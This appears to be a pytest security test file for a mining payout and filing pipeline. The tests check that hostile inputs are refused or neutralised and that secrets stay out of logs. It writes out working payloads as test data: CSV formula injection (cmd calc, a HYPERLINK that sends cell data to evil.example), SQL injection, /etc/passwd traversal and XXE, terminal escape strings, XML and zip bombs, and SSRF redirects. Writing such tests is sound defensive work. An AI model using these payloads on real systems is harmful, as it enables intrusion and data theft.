"""What outsiders may try, each with what answers it: docs/security.md lists them, by the names of the tests here."""

from __future__ import annotations

import io
import json
import os
import re
import stat
import time
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
import structlog
from rich.console import Console

from connectors.bitcoin.rpc import Credentials, NodeConnection
from connectors.files.tables import parse_table, read_table
from connectors.filing.http import HttpFiling, HttpTarget
from connectors.notify.webhook import Webhook
from pipeline.cli import frame
from pipeline.cli.logs import configure_logs
from pipeline.closing.filing import AnswerMap, BodyMap, interpret, read_tree
from pipeline.closing.notices import Notice
from pipeline.model.errors import InputRefused, SettingsError, SourceError
from pipeline.settings.closing import address_faults

from .example_month import RECORDED, esep
from .serving import served
from .test_filing_http import submitting

# Names that a spreadsheet, a terminal, a log, markup, SQL or a shell would take for more than a name.
NAMES = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[red]x[/blue] [link=http://evil.example]y[/link]",
    "'; DROP TABLE raw_miner; --",
    '"; ATTACH \'/etc/passwd\' AS p; --',
    "../../../../etc/passwd",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "{{ ''.__class__.__mro__ }}",
]  # fmt: skip
STEERING = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202egnp.exe"


# --- names ------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, list[str]]]:
    """The recorded month, frozen, with hostile names of its miners; and the names."""
    recorded = tmp_path_factory.mktemp("hostile") / 'it\'s "recorded"; DROP'
    recorded.mkdir()
    for path in RECORDED.iterdir():
        if path.is_file():
            (recorded / path.name).write_bytes(path.read_bytes())
    lines = (recorded / "miners.csv").read_text(encoding="utf-8").splitlines()
    names = []
    for at in range(1, len(lines)):
        miner_id, _, _ = lines[at].partition(",")
        names.append(NAMES[at % len(NAMES)] + f" {at}")
        quoted = names[-1].replace('"', '""')
        lines[at] = f'{miner_id},"{quoted}"'
    (recorded / "miners.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    var = recorded.parent / 'var\'s "own"; DROP TABLE x'
    before = os.umask(0)
    try:
        assert esep("demo", recorded, "--var", var, "--waive-all", "tried") == 0
        yield var, names
    finally:
        os.umask(before)


def test_hostile_names_are_names_in_the_store_the_copy_and_the_bundle(
    hostile: tuple[Path, list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    var, names = hostile
    capsys.readouterr()
    assert esep("query", "SELECT DISTINCT name FROM raw_miner ORDER BY 1", "--json", "--config", var / "esep.toml") == 0
    assert [row["name"] for row in json.loads(capsys.readouterr().out)] == sorted(names)
    bundle = var / "months" / "2026-10" / "v1"
    assert esep("verify", bundle, "--test-network") == 0
    report = json.loads((bundle / "report.json").read_text(encoding="utf-8"))
    printed = {row["miner_name"] for row in report["rows"] if row["miner_name"]}
    assert printed and printed <= set(names)
    csv_text = (bundle / "report.csv").read_text(encoding="utf-8")
    assert any(f',"{name.replace(chr(34), chr(34) * 2)}",' in csv_text or f",{name}," in csv_text for name in printed), "the CSV is exact"


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(hostile: tuple[Path, list[str]]) -> None:
    workbooks = list((hostile[0] / "months" / "2026-10" / "v1").glob("*.xlsx"))
    assert len(workbooks) >= 1
    for path in workbooks:
        with zipfile.ZipFile(path) as parts:
            assert any("worksheets/" in name for name in parts.namelist()), path
            for name in parts.namelist():
                content = parts.read(name).decode("utf-8", "replace")
                if "worksheets/" in name:
                    assert "<f>" not in content and "<f " not in content and "hyperlink" not in content, name
                assert 'TargetMode="External"' not in content, name


def test_everything_written_is_for_the_owner_alone_whatever_the_umask(hostile: tuple[Path, list[str]]) -> None:
    wrong = []
    for path in [hostile[0], *hostile[0].rglob("*")]:
        if path.is_symlink():
            assert path.name == "published.duckdb.wal", "a link has no mode of its own"
            continue
        mode = stat.S_IMODE(path.lstat().st_mode)
        if path.name not in ("published.duckdb", "esep.toml") and mode & 0o077:
            wrong.append((str(path.relative_to(hostile[0])), oct(mode)))
    assert wrong == []
    assert stat.S_IMODE((hostile[0] / "published.duckdb").stat().st_mode) == 0o640, "the analysts' group, as store.published_mode says"
    bundle = hostile[0] / "months" / "2026-10" / "v1"
    assert {stat.S_IMODE(path.stat().st_mode) for path in bundle.rglob("*") if path.is_file()} == {0o400}


# --- what is printed --------------------------------------------------------------------------------------------------


def test_nothing_printed_steers_a_terminal_or_is_taken_for_markup(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    shown = io.StringIO()
    monkeypatch.setattr(frame, "err", Console(file=shown, force_terminal=True, highlight=False, width=200))
    with frame.progress(f"[/red] {STEERING}"):
        pass
    frame.fail(STEERING)
    frame.say(f"[/red]{STEERING}")
    frame.table("t", ["a"], [[f"[/red]{STEERING}"]])
    out = capsys.readouterr().out
    assert "[/red]" in out and "\\x1b[2J" in out and not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out)
    assert "\x1b[2J" not in shown.getvalue() and "\x9b" not in shown.getvalue() and "\u202e" not in shown.getvalue()


def test_a_log_line_is_one_line_of_json_whatever_is_in_it() -> None:
    stream = io.StringIO()
    configure_logs(stream, verbose=True)
    try:
        forged = 'x\n{"event": "forged", "level": "info"}\r\n' + STEERING
        structlog.get_logger().warning("node-said", error=forged, deep={"name": [forged]})
    finally:
        configure_logs()
    (line,) = stream.getvalue().splitlines()
    assert json.loads(line)["event"] == "node-said"
    assert not re.search("[\x00-\x1f\x7f-\x9f\u2028-\u202e]", line)


def test_a_failure_on_stderr_shows_no_number_of_a_person_and_no_secret(capsys: pytest.CaptureFixture[str]) -> None:
    frame.fail("miner 840312301231 at http://user:hunter2@node: password=hunter2")
    said = capsys.readouterr().err
    assert "840312301231" not in said and "********1231" in said and "hunter2" not in said


# --- files ------------------------------------------------------------------------------------------------------------


def workbook(sheet: bytes, *, texts: bytes = b"") -> bytes:
    made = io.BytesIO()
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr("_rels/.rels", f'<R><Relationship Id="a" Type="{kind}/officeDocument" Target="xl/workbook.xml"/></R>')
        parts.writestr("xl/workbook.xml", '<w><sheets><sheet name="s" id="b"/></sheets></w>')
        strings = f'<Relationship Id="c" Type="{kind}/sharedStrings" Target="texts.xml"/>' if texts else ""
        parts.writestr("xl/_rels/workbook.xml.rels", f'<R><Relationship Id="b" Type="{kind}/worksheet" Target="sheet.xml"/>{strings}</R>')
        parts.writestr("xl/sheet.xml", sheet)
        if texts:
            parts.writestr("xl/texts.xml", texts)
    return made.getvalue()


LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (workbook(b"<s>" + b" " * (70 << 20) + b"</s>"), "times its size"),
        (workbook(b"<s><row><c t='str'><v>" + b"A" * (20 << 20) + b"</v></c></row></s>"), "32767 characters"),
        (workbook(b"<s/>", texts=b"<sst><si><t>" + b"A" * (20 << 20) + b"</t></si></sst>"), "32767 characters"),
        (workbook(LAUGHS + b"<s>&b;</s>"), "document type"),
        (workbook(LAUGHS.decode().encode("utf-16") + "<s>&b;</s>".encode("utf-16-le")), "document type"),
    ],
    ids=["bomb", "value", "text", "laughs", "laughs-utf-16"],
)
def test_a_hostile_workbook_is_refused_soon(data: bytes, says: str) -> None:
    begun = time.process_time()
    assert len(data) < 1 << 20
    (fault,) = parse_table(data, "w.xlsx", ["a"]).faults
    assert says in fault.what, fault
    assert time.process_time() - begun < 30


def test_a_name_of_a_file_is_never_a_path_in_the_log(frozen: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "a" / "b"
    folder.mkdir(parents=True)
    name = f"[red]..{STEERING}=1+1.csv"
    (folder / name).write_bytes((RECORDED / "payments.csv").read_bytes() if (RECORDED / "payments.csv").exists() else b"")
    assert esep("import", "allocations", folder / ".." / ".." / "absent.csv", "--config", frozen / "esep.toml") == 4
    assert esep("import", "allocations", folder / name, "--config", frozen / "esep.toml") == 4
    said = capsys.readouterr().err
    assert "\x1b" not in said and "\x9b" not in said
    assert read_table(RECORDED / ".." / RECORDED.name / "allocations.csv", ["account"]).source == "allocations.csv"


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root, to make a link that is another user's")
def test_a_link_of_another_user_is_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("allocation_id\nhunter2\n")
    link = tmp_path / "october.csv"
    link.symlink_to(secret)
    assert read_table(link, ["allocation_id"]).faults == [], "a link of one's own is followed"
    os.lchown(link, 65_534, 65_534)
    with pytest.raises(InputRefused, match="a link that another user made") as refused:
        read_table(link, ["allocation_id"])
    assert "hunter2" not in str(refused.value)
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(InputRefused, match="not a plain file"):
        read_table(tmp_path / "pipe", ["allocation_id"])


# --- what answers -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be"])
def test_an_answer_with_a_document_type_or_without_end_is_unknown(encoding: str) -> None:
    mark = b"\xfe\xff" if encoding == "utf-16-be" else b""
    laughs = mark + (LAUGHS.decode() + "<r><status>accepted</status><receipt>&b;</receipt></r>").encode(encoding)
    assert read_tree(laughs) is None
    assert interpret(AnswerMap(), asked="send", status=200, content=laughs).outcome == "unknown"
    plain = mark + "<r><status>accepted</status><receipt>7</receipt></r>".encode(encoding)
    assert read_tree(plain) == {"r": {"status": "accepted", "receipt": "7"}}


@pytest.mark.parametrize(
    "content",
    [
        b"<a>" * 100_000 + b"</a>" * 100_000,
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b"1" * 5_000,
        b"<r>" + b"<a/>" * 300_000 + b"</r>",
        b"\xff\xfe\x00",
    ],
    ids=["deep-xml", "deep-json", "deep-object", "long-number", "wide-xml", "no-text"],
)
def test_an_answer_of_any_shape_is_read_soon_and_accepts_nothing(content: bytes) -> None:
    begun = time.process_time()
    assert interpret(AnswerMap(), asked="send", status=200, content=content).outcome == "unknown"
    assert time.process_time() - begun < 20


class Endless(BaseHTTPRequestHandler):
    """Answers for ever: as fast as it can, or a byte now and then; or sends elsewhere."""

    seen: list[str] = []  # noqa: RUF012 - the test looks here

    def do_POST(self) -> None:
        type(self).seen.append(self.path)
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path == "/announced":
            self.send_response(200)
            self.send_header("Content-Length", str(1 << 40))
            self.end_headers()
            return
        self.send_response(302 if self.path == "/elsewhere" else 200)
        if self.path == "/elsewhere":
            self.send_header("Location", "/metadata")
            self.send_header("Content-Length", "0")
        self.end_headers()
        try:
            while self.path != "/elsewhere":
                self.wfile.write(b" " * (1 << 16 if self.path == "/flood" else 1))
                if self.path == "/drip":
                    time.sleep(0.05)
        except OSError:
            return

    do_GET = do_POST

    def log_message(self, *_: object) -> None: ...


@pytest.fixture
def endless() -> Iterator[str]:
    Endless.seen = []
    with served(Endless) as url:
        yield url


def test_no_answer_is_read_without_end_and_none_sends_us_elsewhere(endless: str) -> None:
    def file(path: str) -> str:
        return HttpFiling(HttpTarget(endless + path, timeout_s=1), BodyMap(), AnswerMap()).send(submitting(b"{}"), b"{}").outcome

    begun = time.monotonic()
    assert [file(path) for path in ("/flood", "/drip", "/elsewhere")] == ["unknown"] * 3
    Webhook(endless + "/flood", timeout_s=1).send(Notice("n", "s", "t"))  # what it says is not read
    with pytest.raises(SourceError, match="HTTP 302"):
        Webhook(endless + "/elsewhere", timeout_s=1).send(Notice("n", "s", "t"))
    node = NodeConnection(endless + "/announced", Credentials(), timeout_s=1)
    with pytest.raises(SourceError, match="announced an answer"):
        node.call("getblockchaininfo")
    node.close()
    elsewhere = NodeConnection(endless + "/elsewhere", Credentials(user="u", password="p"), timeout_s=1)
    with pytest.raises(SourceError):
        elsewhere.call("getblockchaininfo")
    elsewhere.close()
    assert "/metadata" not in Endless.seen
    assert time.monotonic() - begun < 60


@pytest.mark.parametrize(
    ("url", "holds"),
    [
        ("https://files.example.kz/x", True),
        ("http://127.0.0.1:8119/x", True),
        ("http://[::1]:8119/x", True),
        ("http://localhost/x", True),
        ("http://127.0.0.1.evil.example/x", False),
        ("http://localhost.evil.example/x", False),
        ("http://127.0.0.1@evil.example/x", False),
        ("http://files.example.kz/x", False),
        ("ftp://127.0.0.1/x", False),
        ("https://", False),
        ("http://[", False),
        ("HTTPS://files.example.kz/x", True),
        ("HTTP://files.example.kz/x", False),
        ("https://user:word@files.example.kz/x", False),
        ("https://files.example.kz\\@evil.example/x", False),
    ],
)
def test_secrets_travel_by_tls_or_stay_on_this_machine(url: str, holds: bool) -> None:
    assert (address_faults("x", url, carries_secret=True) == []) is holds


def test_settings_that_would_send_secrets_in_the_clear_are_refused(
    frozen: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "esep.toml"
    further = (
        '\n[filing]\nway = "http"\nurl = "https://a.example/x"\nstatus_url = "http://127.0.0.1.evil.example/x"\n'
        '[notices]\nwebhook_url = "http://hooks.example/T0KEN"\n'
    )
    config.write_text((frozen / "esep.toml").read_text(encoding="utf-8") + further, encoding="utf-8")
    assert esep("status", "--config", config) == SettingsError.exit_code
    said = capsys.readouterr().err
    assert "filing.status_url: must begin with https://" in said and "notices.webhook_url: must begin with https://" in said
    assert "T0KEN" not in said


def test_a_secret_that_others_can_read_is_said(frozen: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config, word = tmp_path / "esep.toml", tmp_path / "word"
    word.write_text("hunter2")
    text = (frozen / "esep.toml").read_text(encoding="utf-8")
    config.write_text(text + f'\n[filing]\nauth = "bearer"\npassword_file = "{word}"\n', encoding="utf-8")
    for mode, is_said in ((0o644, True), (0o640, False), (0o600, False)):
        word.chmod(mode)
        assert esep("calendar", "--json", "--config", config) == 0
        said = capsys.readouterr().err
        assert ("secret-readable-by-all" in said) is is_said and "hunter2" not in said


# --- secrets and people's numbers -------------------------------------------------------------------------------------


def test_after_a_whole_run_no_secret_lies_anywhere_and_no_number_in_a_log(
    frozen: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """Planted secrets of every kind, a failing node and a failing service: then all of var and all that was printed is searched."""
    import shutil

    var = tmp_path / "var"
    shutil.copytree(frozen, var)
    config = var / "esep.toml"
    secrets = {name: f"planted-{name}-7Qx9" for name in ("token", "rpc", "hook")}
    for name, value in secrets.items():
        (tmp_path / name).write_text(value)
        (tmp_path / name).chmod(0o600)
    text = config.read_text(encoding="utf-8").replace(
        'rpc_url = "http://127.0.0.1:1"', f'rpc_url = "http://127.0.0.1:1"\nuser = "u"\npassword_file = "{tmp_path / "rpc"}"'
    )
    text += '\n[closing]\nfirst_month = "2026-10"\nhold_hours = 0\nfile_day = 1\nfile_hour = 0\n[filing]\nway = "http"\nurl = "http://127.0.0.1:1/x"\n'
    text += f'auth = "bearer"\npassword_file = "{tmp_path / "token"}"\n[notices]\nwebhook_url = "http://127.0.0.1:1/{secrets["hook"]}"\n'
    config.write_text(text, encoding="utf-8")
    capfd.readouterr()
    said = ""
    for command in (("close",), ("watch", "--once"), ("status",), ("calendar",), ("-v", "close"), ("ingest",), ("log", "check")):
        esep(*command, "--config", config)
        shown = capfd.readouterr()
        said += shown.err + (shown.out if command[0] in ("close", "watch", "status", "calendar") else "")
    for name in ("token", "rpc", "hook"):
        assert secrets[name] not in said
    for path in var.rglob("*"):
        if path.is_file() and path != config:
            content = path.read_bytes()
            assert not [name for name in secrets if secrets[name].encode() in content], path
    ids = set(re.findall(r"(?m)^([0-9]{12}),", (RECORDED / "miners.csv").read_text(encoding="utf-8")))
    assert ids and not [number for number in ids if number in said]


def test_a_crash_report_holds_no_secret_and_no_number(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(frame, "_crash_folder", [tmp_path])

    class Broken:
        def main(self, **_: object) -> None:
            raise RuntimeError("miner 840312301231 password=hunter2 Authorization: Bearer abc.def.ghi")

    assert frame.run(Broken()) == frame.CRASHED
    (report,) = tmp_path.iterdir()
    text = report.read_text()
    assert "840312301231" not in text and "hunter2" not in text and "abc.def" not in text
    assert stat.S_IMODE(report.stat().st_mode) == 0o600
